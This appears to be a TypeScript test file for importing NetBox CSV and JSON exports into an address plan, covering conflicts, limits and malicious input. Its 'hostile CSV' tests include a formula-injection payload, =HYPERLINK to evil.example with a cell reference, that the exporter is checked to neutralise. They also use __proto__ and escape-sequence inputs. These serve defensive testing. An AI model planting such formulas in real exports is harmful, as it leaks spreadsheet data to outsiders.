import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { TestClock } from "effect/testing"
import type * as AddressPlan from "../../src/ipam/AddressPlan.ts"
import * as PlanExport from "../../src/ipam/PlanExport.ts"
import * as PlanImport from "../../src/ipam/PlanImport.ts"
import { planOf, pool, provider, scope, subnet } from "../support/plans.ts"

const options: PlanImport.ImportOptions = { tenant: "acme" }

const skipping: PlanImport.ImportOptions = { tenant: "acme", onConflict: "skip" }

type Files = Partial<PlanExport.CsvTables>

const conflicts = (files: Files, more: Partial<PlanImport.ImportOptions> = {}) =>
  PlanImport.fromCsv(files, { ...options, ...more }).pipe(
    Effect.flip,
    Effect.map(({ reason }) => (reason._tag === "Conflicts" ? reason.conflicts : [])),
    Effect.map((list) =>
      list.map((one) => [
        one.table,
        one.row,
        one.field,
        one.value,
        one.code,
        one.with?.id ?? null,
        one.with?.row ?? null
      ])
    )
  )

const lines = (...list: ReadonlyArray<string>): string => list.join("\r\n")

const found = (plan: AddressPlan.AddressPlan) => ({
  scopes: plan.scopes.map(({ id, tenant }) => `${id} ${tenant}`),
  pools: plan.pools.map(({ scope, id, cidr, parent }) => `${scope} ${id} ${cidr} ${parent}`),
  subnets: plan.subnets.map(({ scope, id, cidr, pool }) => `${scope} ${id} ${cidr} ${pool}`),
  addresses: plan.addresses.map(
    (one) => `${one.scope} ${one.subnet} ${one.address} ${one.state} ${one.owner} ${one.key}`
  )
})

describe("CSV as NetBox has it", () => {
  const files: Files = {
    vrfs: lines("name,rd,tenant,enforce_unique", "Customer A,65000:1,Acme Corp,true", ""),
    prefixes: lines(
      "prefix,vrf,tenant,status,role,is_pool,description",
      "10.0.0.0/8,Customer A,,container,,false,",
      "10.1.0.0/16,Customer A,,Container,,false,",
      `10.1.2.0/24,Customer A,,active,Servers,false,"web, ""blue"""`,
      "192.0.2.0/24,,,active,,false,"
    ),
    "ip-ranges": lines(
      "start_address,end_address,vrf,status,role",
      "10.1.2.10/24,10.1.2.99/24,Customer A,active,",
      "10.1.2.20/24,10.1.2.29/24,Customer A,reserved,",
      "10.1.2.100/24,10.1.2.199/24,Customer A,active,DHCP pool"
    ),
    "ip-addresses": lines(
      "Address,VRF,Status,DNS Name,Description,virtual_machine,interface",
      "10.1.2.11/24,Customer A,active,www.example.org,,vm-1,eth0",
      "10.1.2.12/24,Customer A,reserved,,,,",
      "10.1.2.13/24,Customer A,deprecated,,,,",
      "192.0.2.7/24,,dhcp,ns.example.org,,,"
    )
  }

  it.effect("becomes scopes, pools, subnets and addresses", () =>
    Effect.gen(function* () {
      yield* TestClock.setTime(1_750_000_000_000)
      const imported = yield* PlanImport.fromCsv(files, options)
      assert.deepStrictEqual(found(imported.plan), {
        scopes: ["Customer-A Acme-Corp", "global acme"],
        pools: ["Customer-A 10.0.0.0/8 10.0.0.0/8 null", "Customer-A 10.1.0.0/16 10.1.0.0/16 10.0.0.0/8"],
        subnets: ["Customer-A 10.1.2.0/24 10.1.2.0/24 10.1.0.0/16", "global 192.0.2.0/24 192.0.2.0/24 null"],
        addresses: [
          "Customer-A 10.1.2.0/24 10.1.2.11 allocated vm-1 eth0 ",
          "Customer-A 10.1.2.0/24 10.1.2.12 reserved imported 10.1.2.12",
          "Customer-A 10.1.2.0/24 10.1.2.13 held imported 10.1.2.13",
          "global 192.0.2.0/24 192.0.2.7 allocated ns.example.org "
        ]
      })
      const web = imported.plan.subnets[0]!
      assert.deepStrictEqual<unknown>(web.ranges, [{ first: "10.1.2.10", last: "10.1.2.99" }])
      assert.deepStrictEqual<unknown>(web.exclusions, [{ first: "10.1.2.20", last: "10.1.2.29" }])
      assert.deepStrictEqual<unknown>(web.dhcp, { first: "10.1.2.100", last: "10.1.2.199" })
      assert.strictEqual(web.comment, `web, "blue"`)
      assert.strictEqual(imported.lines, 12)
      assert.strictEqual(imported.plan.addresses[0]!.since.epochMilliseconds, 1_750_000_000_000)
    })
  )

  it.effect("with a byte order mark and any end of line", () =>
    Effect.gen(function* () {
      const plain = yield* PlanImport.fromCsv(files, options)
      for (const end of ["\n", "\r", "\r\n"]) {
        const other = Object.entries(files).map(([table, text]) => [table, `\ufeff${text.replaceAll("\r\n", end)}`])
        const imported = yield* PlanImport.fromCsv(Object.fromEntries(other) as Files, options)
        assert.deepStrictEqual(found(imported.plan), found(plain.plan))
      }
    })
  )

  it.effect("twice changes nothing", () =>
    Effect.gen(function* () {
      const first = yield* PlanImport.fromCsv(files, options)
      yield* TestClock.adjust("1 hour")
      const again = yield* PlanImport.fromCsv(files, { ...options, into: first.plan })
      assert.deepStrictEqual(again.plan, first.plan)
      assert.strictEqual(again.unchanged, 9)
    })
  )
})

describe("JSON as NetBox answers it", () => {
  const vrf = { id: 3, url: "https://netbox/api/ipam/vrfs/3/", display: "blue (65000:3)", name: "blue", rd: "65000:3" }
  const status = (value: string) => ({ value, label: value.toUpperCase() })
  const answer = (results: ReadonlyArray<unknown>, next: string | null = null) => ({
    count: results.length,
    next,
    previous: null,
    results
  })
  const text = (tables: Record<string, unknown>) => JSON.stringify(tables)
  const prefix = (text: string, kind = "active") => ({
    id: 7,
    family: { value: 4, label: "IPv4" },
    prefix: text,
    vrf,
    tenant: null,
    vlan: { id: 1, name: "v" },
    status: status(kind),
    is_pool: false,
    description: "",
    tags: [{ id: 1, name: "t", slug: "t" }],
    custom_fields: { other: 5 }
  })
  const address = {
    id: 9,
    address: "10.0.0.9/24",
    vrf,
    status: status("active"),
    role: null,
    assigned_object_type: "virtualization.vminterface",
    assigned_object: { id: 4, display: "eth0", name: "eth0", virtual_machine: { id: 2, name: "web-1" } },
    dns_name: "",
    custom_fields: {}
  }

  it.effect("is understood with what is not read beside it", () =>
    Effect.gen(function* () {
      const tables = {
        vrfs: answer([{ ...vrf, tenant: { id: 1, name: "Acme Corp", slug: "acme" }, custom_fields: {} }]),
        prefixes: answer([prefix("10.0.0.0/16", "container"), prefix("10.0.0.0/24")]),
        "ip-addresses": [address]
      }
      const imported = yield* PlanImport.fromJson(text(tables), options)
      assert.deepStrictEqual(found(imported.plan), {
        scopes: ["blue Acme-Corp"],
        pools: ["blue 10.0.0.0/16 10.0.0.0/16 null"],
        subnets: ["blue 10.0.0.0/24 10.0.0.0/24 10.0.0.0/16"],
        addresses: ["blue 10.0.0.0/24 10.0.0.9 allocated web-1 eth0 "]
      })
    })
  )

  it.effect("with a byte order mark; a deprecated address is held under itself", () =>
    Effect.gen(function* () {
      const held = { address: "10.0.0.9/24", status: status("deprecated"), dns_name: "old" }
      const tables = { prefixes: [{ prefix: "10.0.0.0/24" }], "ip-addresses": [held] }
      const imported = yield* PlanImport.fromJson(`\ufeff${text(tables)}`, options)
      assert.deepStrictEqual(found(imported.plan).addresses, ["global 10.0.0.0/24 10.0.0.9 held old 10.0.0.9"])
    })
  )

  it.effect("one page of several, and what is no table, are conflicts", () =>
    Effect.gen(function* () {
      const tables = {
        vrfs: answer([vrf, 5, { ...vrf, name: { odd: true } }], "https://netbox/api/ipam/vrfs/?offset=50"),
        prefixes: "none",
        "ip-addresses": [{ ...address, __proto__: null, vrf: ["blue"] }]
      }
      const { reason } = yield* Effect.flip(PlanImport.fromJson(text(tables), options))
      const list = reason._tag === "Conflicts" ? reason.conflicts : []
      assert.deepStrictEqual(
        list.map(({ table, row, field }) => [table, row, field]),
        [
          ["vrfs", 0, "next"],
          ["vrfs", 2, ""],
          ["vrfs", 3, "name"],
          ["prefixes", 0, "results"],
          ["ip-addresses", 1, "vrf"]
        ]
      )
    })
  )

  it.effect("what is no JSON object is refused", () =>
    Effect.gen(function* () {
      for (const text of ["", "[]", "{", "null", `"x"`]) {
        const { reason } = yield* Effect.flip(PlanImport.fromJson(text, options))
        assert.strictEqual(reason._tag, "NotJson", text)
      }
    })
  )
})

describe("conflicts", () => {
  const vrfs = lines("name,tenant", "blue,acme")

  it.effect("are reported all at once, with row, field and what they collide with", () =>
    Effect.gen(function* () {
      const list = yield* conflicts({
        vrfs,
        prefixes: lines(
          "prefix,vrf,status,cf_cloudwright_kind,cf_cloudwright_gateway",
          "10.0.0.0/24,blue,active,,10.0.1.1",
          "10.0.0.128/25,blue,active,,",
          "10.0.0.1/24,blue,active,,",
          "10.0.0.0/33,blue,what,,nowhere",
          "10.0.0.0/24,blue,active,,",
          "10.0.9.0/24,red,active,,",
          "10.0.8.0/24,blue,active,delegation,"
        ),
        "ip-ranges": lines(
          "start_address,end_address,vrf,status",
          "10.0.0.5/24,10.0.1.5/24,blue,active",
          "10.9.0.5/24,10.9.0.6/24,blue,active"
        ),
        "ip-addresses": lines(
          "address,vrf,status,cf_cloudwright_owner",
          "10.0.0.3/24,blue,active,a",
          "10.0.0.3/24,blue,active,b",
          "10.0.0.4/24,blue,active,a",
          "10.0.7.4/24,blue,active,a",
          "10.0.0.0/24,blue,active,z",
          "010.0.0.5/24,blue,active,a",
          "10.0.0.6/24/7,blue,active,a"
        )
      })
      assert.sameDeepMembers<unknown>(list, [
        ["prefixes", 4, "prefix", "10.0.0.1/24", "Unreadable", null, null],
        ["prefixes", 5, "prefix", "10.0.0.0/33", "Unreadable", null, null],
        ["prefixes", 5, "status", "what", "Unreadable", null, null],
        ["prefixes", 5, "cf_cloudwright_gateway", "nowhere", "Unreadable", null, null],
        ["prefixes", 8, "cf_cloudwright_owner", "", "Unreadable", null, null],
        ["ip-addresses", 7, "address", "010.0.0.5/24", "Unreadable", null, null],
        ["ip-addresses", 8, "address", "10.0.0.6/24/7", "Unreadable", null, null],
        ["ip-ranges", 2, "end_address", "10.0.1.5", "OutsideSubnet", "10.0.0.0/24", 2],
        ["ip-ranges", 3, "start_address", "10.9.0.5", "NoSubnet", null, null],
        ["ip-addresses", 5, "address", "10.0.7.4", "NoSubnet", null, null],
        ["prefixes", 2, "cf_cloudwright_gateway", "10.0.1.1", "OutsideSubnet", null, null],
        ["prefixes", 3, "prefix", "10.0.0.128/25", "Overlaps", "10.0.0.0/24", 2],
        ["prefixes", 6, "prefix", "10.0.0.0/24", "Overlaps", "10.0.0.0/24", 2],
        ["prefixes", 6, "cf_cloudwright_id", "10.0.0.0/24", "Duplicate", "10.0.0.0/24", 2],
        ["prefixes", 7, "vrf", "red", "NoScope", null, null],
        ["ip-addresses", 3, "address", "10.0.0.3", "Duplicate", "10.0.0.3", 2],
        ["ip-addresses", 4, "cf_cloudwright_owner", "a", "OwnerTwice", "10.0.0.3", 2],
        ["ip-addresses", 6, "address", "10.0.0.0", "NoHost", "10.0.0.0/24", 2]
      ])
    })
  )

  it.effect("with what is there are never its fault", () =>
    Effect.gen(function* () {
      const files = {
        prefixes: lines(
          "prefix,vrf,status,cf_cloudwright_id",
          "10.0.0.0/21,blue,active,wide",
          "10.0.2.0/25,blue,active,db",
          "10.0.16.0/20,blue,container,racks",
          "10.0.64.0/24,blue,active,web"
        )
      }
      assert.deepStrictEqual<unknown>(yield* conflicts(files, { into: provider }), [
        ["prefixes", 3, "cf_cloudwright_id", "db", "Duplicate", "db", null],
        ["prefixes", 5, "cf_cloudwright_id", "web", "Duplicate", "web", null],
        ["prefixes", 2, "prefix", "10.0.0.0/21", "Overlaps", "web", null],
        ["prefixes", 2, "prefix", "10.0.0.0/21", "Overlaps", "db", null],
        ["prefixes", 3, "prefix", "10.0.2.0/25", "Overlaps", "db", null],
        ["prefixes", 2, "prefix", "10.0.0.0/21", "Overlaps", "db-b", null]
      ])
    })
  )

  it.effect("a pool around what is there takes it in", () =>
    Effect.gen(function* () {
      const prefixes = lines("prefix,vrf,status,cf_cloudwright_id", "10.0.0.0/22,blue,container,front")
      const { plan } = yield* PlanImport.fromCsv({ prefixes }, { ...options, into: provider })
      assert.strictEqual(plan.subnets.find(({ id }) => id === "web")?.pool, "front")
      assert.strictEqual(plan.pools.find(({ id }) => id === "front")?.parent, "site")
    })
  )

  it.effect("a scope of somebody else stays theirs", () =>
    Effect.gen(function* () {
      const list = yield* conflicts({ vrfs: lines("name,tenant", "blue,umbrella") }, { into: provider })
      assert.deepStrictEqual<unknown>(list, [["vrfs", 2, "tenant", "umbrella", "Duplicate", "blue", null]])
    })
  )

  it.effect("lines that have one are left out when that is asked for, and all that depends on them", () =>
    Effect.gen(function* () {
      const imported = yield* PlanImport.fromCsv(
        {
          vrfs: lines("name,tenant", "blue,acme", "bl ue!,acme"),
          prefixes: lines("prefix,vrf", "10.0.0.0/24,blue", "10.0.0.0/25,blue", "10.0.1.0/24,red", "10.0.2.0/24,blue"),
          "ip-addresses": lines("address,vrf,dns_name", "10.0.0.5,blue,a", "10.0.1.5,red,b", "10.0.2.5,blue,c")
        },
        skipping
      )
      assert.deepStrictEqual(found(imported.plan), {
        scopes: ["blue acme"],
        pools: [],
        subnets: ["blue 10.0.0.0/24 10.0.0.0/24 null", "blue 10.0.2.0/24 10.0.2.0/24 null"],
        // The first one was in the subnet that is left out.
        addresses: ["blue 10.0.2.0/24 10.0.2.5 allocated c "]
      })
      assert.deepStrictEqual(
        imported.skipped.map(({ table, row }) => [table, row]),
        [
          ["vrfs", 3],
          ["prefixes", 4],
          ["prefixes", 3],
          ["ip-addresses", 3],
          ["ip-addresses", 2]
        ]
      )
    })
  )

  it.effect("a lease has a token and an end, a gateway is a host", () =>
    Effect.gen(function* () {
      const files = {
        prefixes: lines(
          "prefix,cf_cloudwright_gateway",
          "10.0.0.0/24,",
          "10.0.1.0/24,10.0.1.0",
          "10.0.2.0/31,10.0.2.0"
        ),
        "ip-addresses": lines(
          "address,cf_cloudwright_state,cf_cloudwright_free_at,cf_cloudwright_lease_token,cf_cloudwright_lease_expires",
          "10.0.0.5/24,,,x-1,",
          "10.0.0.6/24,,,,2026-01-01T00:00:00Z",
          "10.0.0.7/24,quarantined,2026-01-01T00:00:00Z,x-1,2026-01-02T00:00:00Z"
        )
      }
      assert.deepStrictEqual<unknown>(yield* conflicts(files), [
        ["ip-addresses", 2, "cf_cloudwright_lease_expires", "", "Unreadable", null, null],
        ["ip-addresses", 3, "cf_cloudwright_lease_token", "", "Unreadable", null, null],
        ["prefixes", 3, "cf_cloudwright_gateway", "10.0.1.0", "NoHost", "10.0.1.0/24", 3],
        ["ip-addresses", 4, "cf_cloudwright_lease_token", "x-1", "WrongState", null, null]
      ])
    })
  )

  it.effect("are said in words", () =>
    Effect.gen(function* () {
      const prefixes = lines("prefix,vrf", "10.0.0.0/24,blue", "10.0.0.0/25,blue")
      const error = yield* Effect.flip(PlanImport.fromCsv({ vrfs, prefixes }, options))
      assert.strictEqual(
        error.message,
        "1 conflict\n" +
          `  prefixes row 3, prefix: "10.0.0.0/25" Overlaps: ` +
          "subnet blue 10.0.0.0/25: cidr 10.0.0.0/25: it overlaps subnet blue 10.0.0.0/24 (prefixes row 2)"
      )
    })
  )
})

describe("hostile CSV", () => {
  const vrfs = lines("name,tenant", "blue,acme")

  it.effect("columns", () =>
    Effect.gen(function* () {
      assert.deepStrictEqual<unknown>(yield* conflicts({ vrfs: "" }), [
        ["vrfs", 1, "name", "", "Unreadable", null, null]
      ])
      assert.deepStrictEqual<unknown>(yield* conflicts({ vrfs: lines("name,tenant,Name,__proto__", "a,b,c,d") }), [
        ["vrfs", 1, "name", "Name", "Unreadable", null, null]
      ])
      assert.deepStrictEqual<unknown>(yield* conflicts({ vrfs: lines("name,tenant", "a,b,c", "", "blue", "d,e") }), [
        ["vrfs", 2, "", "a,b,c", "Unreadable", null, null],
        ["vrfs", 4, "", "blue", "Unreadable", null, null]
      ])
    })
  )

  it.effect("quotes: what stands before a broken record is still checked", () =>
    Effect.gen(function* () {
      const prefixes = lines("prefix,vrf", `"10.0.0.9/24","blue"`, `10.0.1.0/24,"blue`, "10.0.2.0/24,blue")
      assert.deepStrictEqual<unknown>(yield* conflicts({ vrfs, prefixes }), [
        ["prefixes", 3, "", "", "Unreadable", null, null],
        ["prefixes", 2, "prefix", "10.0.0.9/24", "Unreadable", null, null]
      ])
      assert.lengthOf(yield* conflicts({ vrfs: `"name"x,tenant` }), 2)
    })
  )

  it.effect("a record that never ends", () =>
    Effect.gen(function* () {
      const list = yield* conflicts({ vrfs: lines("name,tenant", `blue,"${"x".repeat(70_000)}"`) })
      assert.deepStrictEqual<unknown>(list, [["vrfs", 2, "", "", "Unreadable", null, null]])
    })
  )

  it.effect("control characters and long texts do not get into records", () =>
    Effect.gen(function* () {
      const list = yield* conflicts({
        vrfs,
        prefixes: lines(
          "prefix,vrf,description",
          `10.0.0.0/24,blue,"two\nlines"`,
          `10.0.1.0/24,blue,${"x".repeat(201)}`,
          "10.0.2.0/24,blue,\u001b[31mred",
          `10.0.3.0/24,${"b".repeat(5000)},`
        )
      })
      assert.deepStrictEqual(
        list.map(([, row, field]) => [row, field]),
        [
          [2, "description"],
          [3, "description"],
          [4, "description"],
          [5, "vrf"]
        ]
      )
      assert.strictEqual(String(list[3]![3]).length, 200)
    })
  )

  it.effect("a formula is neutralised when it is written and itself when it is read", () =>
    Effect.gen(function* () {
      const evil = `=HYPERLINK("http://evil.example/?"&A1)`
      const plan = planOf({
        scopes: [scope("@blue", { comment: evil })],
        pools: [pool("@blue", "+p", "10.0.0.0/16", { comment: "-1+1" })],
        subnets: [subnet("@blue", "-s", "10.0.0.0/24", { comment: "'=quoted" })]
      })
      const files = yield* PlanExport.toCsv(plan)
      assert.include(files.vrfs, `'@blue,acme,true,"'=HYPERLINK(""http://evil.example/?""&A1)"`)
      assert.include(files.prefixes, `10.0.0.0/16,'@blue,container,'-1+1,pool,'+p`)
      assert.include(files.prefixes, `''=quoted`)
      const imported = yield* PlanImport.fromCsv(files, options)
      assert.deepStrictEqual(imported.plan, plan)
    })
  )
})

describe("limits", () => {
  it.effect("are errors with figures", () =>
    Effect.gen(function* () {
      const reason = (text: string) =>
        Effect.map(Effect.flip(PlanImport.fromCsv({ vrfs: text }, options)), ({ reason }) => reason)
      const { charactersMax, linesMax } = PlanImport
      assert.deepStrictEqual(yield* reason("x".repeat(charactersMax + 1)), {
        _tag: "LimitExceeded",
        what: "characters",
        asked: charactersMax + 1,
        limit: charactersMax
      })
      assert.deepStrictEqual(yield* reason(`name\n${"a\n".repeat(linesMax + 5)}`), {
        _tag: "LimitExceeded",
        what: "lines",
        asked: linesMax + 1,
        limit: linesMax
      })
      const json = yield* Effect.flip(PlanImport.fromJson(" ".repeat(charactersMax + 1), options))
      assert.strictEqual(json.reason._tag, "LimitExceeded")
    })
  )

  it.effect("names that are none", () =>
    Effect.gen(function* () {
      const { reason } = yield* Effect.flip(PlanImport.fromCsv({}, { tenant: "a b" }))
      assert.deepInclude(reason as object, { _tag: "InvalidOption", option: "tenant" })
    })
  )
})
